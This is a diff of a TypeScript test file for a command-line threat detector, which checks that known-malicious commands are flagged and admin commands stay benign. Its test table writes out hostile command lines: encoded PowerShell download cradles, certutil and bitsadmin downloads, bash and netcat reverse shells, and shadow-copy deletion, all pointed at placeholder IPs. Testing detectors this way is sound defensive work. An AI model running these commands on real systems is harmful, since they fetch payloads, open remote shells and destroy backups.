@@ -7,10 +7,15 @@ const b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
 
 /** Short command lines written for these tests, in the shape of well-known tradecraft. */
 const ATTACKS: [name: string, cmd: string, expectedAttack: string, minScore: number][] = [
-  ['encoded PowerShell (-enc)', `powershell.exe -NoP -W Hidden -enc ${b64("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')")}`, 'T1059.001', 75],
+  [
+    'encoded PowerShell (-enc)',
+    `powershell.exe -NoP -W Hidden -enc ${b64("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')")}`,
+    'T1059.001',
+    75,
+  ],
   ['encoded PowerShell (-EncodedCommand)', `PowerShell -EncodedCommand ${b64('Get-Process')}`, 'T1027', 75],
   ['encoded PowerShell (-e)', `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e ${b64('whoami')}`, 'T1059.001', 75],
-  ['download cradle', "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://203.0.113.4/p.ps1')\"", 'T1105', 75],
+  ['download cradle', 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'https://203.0.113.4/p.ps1\')"', 'T1105', 75],
   ['certutil -urlcache download', 'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe', 'T1105', 75],
   ['vssadmin delete shadows', 'vssadmin.exe delete shadows /all /quiet', 'T1490', 75],
   ['wmic shadowcopy delete', 'wmic shadowcopy delete /nointeractive', 'T1490', 75],
@@ -24,7 +29,12 @@ const ATTACKS: [name: string, cmd: string, expectedAttack: string, minScore: num
   ['regsvr32 Squiblydoo', 'regsvr32 /s /n /u /i:https://203.0.113.8/file.sct scrobj.dll', 'T1218.010', 75],
   ['bash reverse shell', 'bash -i >& /dev/tcp/198.51.100.20/4444 0>&1', 'T1059.004', 75],
   ['nc -e reverse shell', 'nc 198.51.100.20 4444 -e /bin/sh', 'T1059.004', 75],
-  ['hidden PowerShell with bypass', 'powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\run.ps1', 'T1564.003', 50],
+  [
+    'hidden PowerShell with bypass',
+    'powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\run.ps1',
+    'T1564.003',
+    50,
+  ],
   ['certutil -decode', 'certutil -decode payload.b64 payload.exe', 'T1140', 50],
   ['bitsadmin transfer', 'bitsadmin /transfer job /download /priority high http://198.51.100.7/a.exe C:\\a.exe', 'T1197', 50],
   ['domain admin discovery', 'net group "domain admins" /domain', 'T1069', 1],
@@ -117,9 +127,16 @@ describe('analyzeCommandLines', () => {
 
 // Real command lines from the project's shared corpus (Atomic Red Team tests, MIT; tldr-pages
 // examples, CC-BY-4.0), read in place and never copied into the repository.
-interface CorpusRow { command: string; technique?: string; tool?: string }
+interface CorpusRow {
+  command: string;
+  technique?: string;
+  tool?: string;
+}
 const readJsonl = (file: string): CorpusRow[] =>
-  readFileSync(corpusPath('commands', file), 'utf8').split('\n').filter((l) => l.trim()).map((l) => JSON.parse(l) as CorpusRow);
+  readFileSync(corpusPath('commands', file), 'utf8')
+    .split('\n')
+    .filter((l) => l.trim())
+    .map((l) => JSON.parse(l) as CorpusRow);
 
 describe('analyzeCommandLines on the shared command corpus', () => {
   const malicious = readJsonl('malicious_commands.jsonl');
@@ -138,20 +155,24 @@ describe('analyzeCommandLines on the shared command corpus', () => {
   it.each(families)('detects every %s command in the corpus', (_name, select, attack) => {
     const rows = malicious.filter((r) => select.test(r.command) && !/\{[A-Z_]+(:[^}]*)?\}/.test(r.command));
     expect(rows.length).toBeGreaterThan(0);
-    const missed = rows.filter((r) => {
-      const f = analyzeCommandLines([r.command]);
-      return f.verdict !== 'malicious' || !f.attack.includes(attack);
-    }).map((r) => r.command);
+    const missed = rows
+      .filter((r) => {
+        const f = analyzeCommandLines([r.command]);
+        return f.verdict !== 'malicious' || !f.attack.includes(attack);
+      })
+      .map((r) => r.command);
     expect(missed).toEqual([]);
   });
 
   it.each(['ipconfig', 'git', 'ping', 'netstat', 'dir', 'cd', 'df', 'systemctl', 'journalctl', 'docker', 'kubectl', 'ssh'])(
-    'keeps every documented %s example benign', (tool) => {
+    'keeps every documented %s example benign',
+    (tool) => {
       const rows = admin.filter((r) => r.tool === tool);
       expect(rows.length).toBeGreaterThan(0);
       const flagged = rows.filter((r) => analyzeCommandLines([r.command]).verdict !== 'benign').map((r) => r.command);
       expect(flagged).toEqual([]);
-    });
+    },
+  );
 
   it('judges no documented admin usage malicious, apart from an offensive tool (mimikatz)', () => {
     const flagged = admin
